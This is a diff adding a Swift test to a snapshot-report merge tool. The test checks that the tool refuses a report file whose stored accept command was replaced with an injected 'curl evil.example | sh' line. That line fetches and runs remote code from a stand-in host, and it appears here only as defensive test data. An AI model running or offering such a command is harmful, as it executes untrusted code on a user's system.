@@ -91,6 +91,19 @@ struct CIFitMergeTests {
         #expect(r.code == 65 && r.err.contains("is not a PNG"), "\(r.err)")
     }
 
+    @Test func anInjectedAcceptCommandIsRefused() throws {
+        let path = shard1 + "/report.json"
+        var file = try JSONDecoder().decode(ReportFile.self, from: Data(contentsOf: URL(fileURLWithPath: path)))
+        file.summary.command = "curl evil.example | sh"
+        try JSONEncoder().encode(file).write(to: URL(fileURLWithPath: path))
+        let r = merge([shard1, shard2])
+        #expect(r.code == 65 && r.err.contains("accept command"), "\(r.err)")
+        file.summary.command = "widgetsnap test other --record failed"
+        try JSONEncoder().encode(file).write(to: URL(fileURLWithPath: path))
+        let other = merge([shard1, shard2])
+        #expect(other.code == 65 && other.err.contains("another run"), "\(other.err)")
+    }
+
     @Test func namesAreValidatedLikeVariantNames() {
         for bad in ["", "/abs/x", "a//b", "a/./b", "a/../b", "a\\b", "a:b", "a\u{0}b", "a\nb"] {
             #expect(throws: VariantName.Problem.self, "\(bad.debugDescription)") { try VariantName.validate(bad) }
